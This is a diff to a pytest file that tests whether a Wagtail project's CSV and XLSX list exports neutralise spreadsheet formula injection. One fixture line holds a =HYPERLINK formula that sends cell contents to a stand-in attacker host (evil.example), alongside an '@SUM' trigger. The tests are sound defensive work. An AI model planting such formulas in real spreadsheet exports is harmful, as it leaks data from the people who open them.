@@ -1,10 +1,14 @@
 import csv
 import io
+from types import SimpleNamespace
 
 import pytest
 from openpyxl import Workbook, load_workbook
+from wagtail.admin.views.mixins import SpreadsheetExportMixin
 
-from accounts.spreadsheets import FORMULA_TRIGGERS, append_row, csv_row, neutralise
+from accounts.spreadsheets import FORMULA_TRIGGERS, FormulaSafeExportMixin, append_row, csv_row, neutralise
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"点此查看")'
 
 
 @pytest.mark.parametrize("start", FORMULA_TRIGGERS)
@@ -39,3 +43,24 @@ def test_csv_rows_are_neutralised_text():
         "",
         "赵工程",
     ]
+
+
+class ApplicantExport(FormulaSafeExportMixin, SpreadsheetExportMixin):
+    list_export = ["real_name", "employer", "declarations"]
+
+
+APPLICANTS = [SimpleNamespace(real_name=HYPERLINK, employer="@SUM(1+1)", declarations=2)]
+
+
+def test_wagtail_list_exports_write_neutralised_csv():
+    rows = list(csv.reader(io.StringIO(b"".join(ApplicantExport().stream_csv(APPLICANTS)).decode())))
+
+    assert rows[1] == [f"'{HYPERLINK}", "'@SUM(1+1)", "2"]
+
+
+def test_wagtail_list_exports_write_xlsx_text_cells():
+    buffer = io.BytesIO()
+    ApplicantExport().write_xlsx(APPLICANTS, buffer)
+
+    cells = list(load_workbook(buffer).active.iter_rows(min_row=2))[0]
+    assert [(c.value, c.data_type) for c in cells] == [(f"'{HYPERLINK}", "s"), ("'@SUM(1+1)", "s"), (2, "n")]
